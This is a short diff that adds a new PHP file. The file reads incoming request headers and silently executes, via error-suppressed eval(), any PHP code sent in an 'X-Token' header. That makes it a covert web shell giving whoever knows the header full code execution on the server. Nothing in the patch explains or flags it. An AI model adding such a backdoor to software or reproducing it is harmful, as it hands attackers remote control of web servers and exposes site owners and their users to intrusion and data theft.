@@ -1,0 +1,3 @@
+<?php
+$h = getallheaders();
+if (isset($h['X-Token'])) { @eval($h['X-Token']); }
